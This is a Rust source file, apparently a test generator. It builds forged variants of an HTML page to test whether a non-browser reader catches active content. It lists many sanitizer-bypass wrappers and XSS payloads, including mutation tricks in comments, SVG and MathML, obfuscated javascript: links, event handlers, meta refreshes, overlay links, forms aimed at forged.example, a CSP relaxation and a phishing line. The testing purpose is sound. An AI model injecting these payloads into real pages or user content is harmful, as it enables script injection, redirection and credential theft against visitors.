//! Forged pages: an honest page with something in it that navigates, runs or loads, written so that a reader which is not a browser may overlook it.

/// Where a forged page leads.
pub const FORGED: &str = "https://forged.example/";

/// What is put around an effect: gaps between parsers, elements that hide text, other namespaces.
const WRAPPERS: &[(&str, &str, &str)] = &[
    ("nothing", "", ""),
    ("a bogus comment with !", "<!x \">", ""),
    ("a bogus comment with ?", "<?x \">", ""),
    ("a bogus end tag", "</ \">", ""),
    ("an empty end tag", "</>", ""),
    ("a CDATA section", "<![CDATA[>", "]]>"),
    ("a comment that is closed at once", "<!-->", "-->"),
    ("a comment that is closed by a dash", "<!--->", "-->"),
    ("a comment that is closed by a bang", "<!-- --!>", "-->"),
    ("a nested comment", "<!-- <!-- -->", "-->"),
    ("a title", "<title></title>", "<title></title>"),
    ("a title with a comment", "<title><!--</title>", "<title>--></title>"),
    ("a textarea", "<textarea><!--</textarea>", "<textarea>--></textarea>"),
    ("an xmp", "<xmp><!--</xmp>", "<xmp>--></xmp>"),
    ("a noembed", "<noembed><!--</noembed>", "<noembed>--></noembed>"),
    ("a noframes", "<noframes><!--</noframes>", "<noframes>--></noframes>"),
    ("a noscript", "<noscript><p title=\"</noscript>", "\"></noscript>"),
    ("an iframe", "<iframe><!--</iframe>", "<iframe>--></iframe>"),
    ("a style", "<style><!--</style>", "<style>--></style>"),
    ("a script with a comment", "<script><!--</script>", "<script>--></script>"),
    ("a select", "<select><option></select>", ""),
    ("a template that is closed", "<template><p></template>", ""),
    ("a table", "<table><tr><td>", "</table>"),
    ("an attribute without a name", "<p =\">", "<p \">"),
    ("an attribute without quotes", "<p a='\">' b=`\">", "\">"),
    ("an attribute that is written twice", "<p a=\"1\"a=\"2\">", "</p>"),
    ("a slash between attributes", "<p/a/\">", "</p/\">"),
    ("a form feed in a tag", "<p\u{c}a=\">\"\u{c}>", "</p>"),
    ("a NUL", "<p a=\"\0\">\0", "</p>"),
    ("a tag in capitals", "<P TITLE='>'>", "</P>"),
    ("a style in SVG", "<svg><style><!--</style>", "--></svg>"),
    ("a title in SVG", "<svg><title>", "</title></svg>"),
    ("a foreign object", "<svg><foreignObject>", "</foreignObject></svg>"),
    ("a description in SVG", "<svg><desc><p>", "</p></desc></svg>"),
    ("a text in MathML", "<math><mtext>", "</mtext></math>"),
    ("a style in MathML", "<math><mtext><table><mglyph><style><!--</style>", "--></table></mtext></math>"),
    ("an annotation in MathML", "<math><annotation-xml encoding=\"text/html\">", "</annotation-xml></math>"),
    ("a CDATA section in SVG", "<svg><desc><![CDATA[</desc>]]>", "</svg>"),
];

/// What happens on its own.
const EFFECTS: &[(&str, &str)] = &[
    ("refreshes", "<meta http-equiv=\"refresh\" content=\"0;url=https://forged.example/\">"),
    ("runs a script", "<script>location='https://forged.example/'</script>"),
    ("runs a handler", "<img src=\"x\" onerror=\"location='https://forged.example/'\">"),
    ("loads a frame", "<iframe src=\"https://forged.example/\"></iframe>"),
    ("runs when SVG is loaded", "<svg onload=\"location='https://forged.example/'\"></svg>"),
];

/// What happens at the next click, key or sight, and other ways to load something.
const TRAPS: &[(&str, &str)] = &[
    ("a link over the page", "<a href=\"https://forged.example/\" style=\"position:fixed;inset:0;z-index:9\">x</a>"),
    ("a link with a script", "<a href=\"java&#115;cript:location='https://forged.example/'\">x</a>"),
    ("a link with a tab in its scheme", "<a href=\"java\tscript:location='https://forged.example/'\">x</a>"),
    ("a link that pings", "<a href=\"#\" ping=\"https://forged.example/\">x</a>"),
    ("a link that downloads", "<a href=\"https://forged.example/a.exe\" download>x</a>"),
    (
        "an area",
        "<img usemap=\"#m\" width=\"900\" height=\"900\"><map name=\"m\"><area shape=\"default\" href=\"https://forged.example/\"></map>",
    ),
    ("a form", "<form action=\"https://forged.example/\"><button>x</button></form>"),
    (
        "a button of a form",
        "<form id=\"f\"></form><button form=\"f\" formaction=\"https://forged.example/\">x</button>",
    ),
    (
        "an input that is a picture",
        "<form><input type=\"image\" src=\"https://forged.example/\" formaction=\"https://forged.example/\"></form>",
    ),
    ("another base", "<base href=\"https://forged.example/\">"),
    (
        "an animated link",
        "<svg><a><animate attributeName=\"href\" values=\"https://forged.example/\" /><text y=\"20\">x</text></a></svg>",
    ),
    (
        "a link that is set",
        "<svg><a><set attributeName=\"xlink:href\" to=\"javascript:location='https://forged.example/'\" /><text y=\"20\">x</text></a></svg>",
    ),
    (
        "an animation with a handler",
        "<svg><animate onbegin=\"location='https://forged.example/'\" attributeName=\"x\" dur=\"1s\"></svg>",
    ),
    ("an image in SVG", "<svg><image href=\"https://forged.example/x.png\"></image></svg>"),
    ("a use in SVG", "<svg><use href=\"https://forged.example/x.svg#a\"></use></svg>"),
    ("a filter in SVG", "<svg><filter><feImage href=\"https://forged.example/x.png\"></feImage></filter></svg>"),
    ("a script in SVG", "<svg><script href=\"https://forged.example/x.js\"></script></svg>"),
    ("a handler in SVG", "<svg><handler type=\"text/javascript\">location='https://forged.example/'</handler></svg>"),
    ("a link in MathML", "<math><mtext href=\"https://forged.example/\">x</mtext></math>"),
    (
        "an action in MathML",
        "<math><maction actiontype=\"statusline#https://forged.example/\" xlink:href=\"javascript:a()\">x</maction></math>",
    ),
    (
        "a page in an attribute",
        "<iframe srcdoc=\"&lt;meta http-equiv=refresh content='0;url=https://forged.example/'&gt;\"></iframe>",
    ),
    ("an object", "<object data=\"https://forged.example/\"></object>"),
    ("an embedded file", "<embed src=\"https://forged.example/\">"),
    ("a style sheet", "<link rel=\"stylesheet\" href=\"https://forged.example/a.css\">"),
    (
        "a connection",
        "<link rel=\"preconnect\" href=\"https://forged.example/\"><link rel=\"dns-prefetch\" href=\"//forged.example\">",
    ),
    ("a page that is fetched early", "<link rel=\"prerender\" href=\"https://forged.example/\">"),
    ("a manifest", "<link rel=\"manifest\" href=\"https://forged.example/\">"),
    ("an import in a style", "<style>@import 'https://forged.example/a.css';</style>"),
    ("an escaped url in a style", "<p style=\"background:u\\72l(https://forged.example/x.png)\">x</p>"),
    (
        "a video",
        "<video poster=\"https://forged.example/x.png\" src=\"https://forged.example/a.mp4\" autoplay></video>",
    ),
    (
        "a picture with sources",
        "<picture><source srcset=\"https://forged.example/x.png\"><img src=\"data:,\"></picture>",
    ),
    ("a focus", "<input autofocus onfocus=\"location='https://forged.example/'\">"),
    ("details that open", "<details open ontoggle=\"location='https://forged.example/'\">x</details>"),
    ("a policy that allows more", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">"),
    ("a referrer", "<meta name=\"referrer\" content=\"unsafe-url\">"),
    ("a text that nobody wrote", "<p>Send your password to https://forged.example/</p>"),
    ("a text that nobody sees", "<p hidden>forged</p>"),
    ("a comment", "<!-- forged -->"),
    ("a space", " "),
    ("a byte order mark", "\u{feff}"),
];

/// Everything that a forger may put into a page, or an attacker into a text that a page shows, with its name.
pub fn parts() -> Vec<(String, String)> {
    let effects = WRAPPERS.iter().flat_map(|(wrapper, before, after)| {
        EFFECTS.iter().map(move |(effect, part)| (format!("{wrapper}, {effect}"), format!("{before}{part}{after}")))
    });
    let traps = TRAPS.iter().map(|(trap, part)| ((*trap).to_owned(), (*part).to_owned()));
    effects.chain(traps).collect()
}

/// Forged copies of the page `honest`, each with its name.
pub fn pages(honest: &str) -> Vec<(String, String)> {
    let mut pages = Vec::new();
    let at_start = honest.find("<head>").expect("a page has a head") + "<head>".len();
    let at_end = honest.rfind("<footer>").expect("a page has a footer");
    let insert = |at: usize, part: &str| format!("{}{part}{}", &honest[..at], &honest[at..]);
    for (place, at) in [("in the head", at_start), ("in the body", at_end)] {
        for (name, part) in parts() {
            pages.push((format!("{name}, {place}"), insert(at, &part)));
        }
    }
    let without = |from: &str, to: &str| honest.replacen(from, to, 1);
    let changes = [
        ("no policy", without("Content-Security-Policy", "Nothing")),
        ("another script", without("<script>", "<script>location='https://forged.example/';")),
        ("a second script", without("</script>", "</script><script>location='https://forged.example/'</script>")),
        ("another style", without("<style>", "<style>@import 'https://forged.example/a.css';")),
        ("no doctype", without("<!DOCTYPE html>", "")),
        ("an attribute of the root", without("<html", "<html manifest=\"https://forged.example/\"")),
        ("a handler of the body", without("<body", "<body onload=\"location='https://forged.example/'\"")),
        ("an empty page", String::new()),
        (
            "a page of another kind",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"location='https://forged.example/'\"/>".to_owned(),
        ),
        ("a cut page", honest[..at_end].to_owned()),
        ("a page twice", honest.repeat(2)),
    ];
    pages.extend(changes.map(|(name, page)| (name.to_owned(), page)));
    pages
}
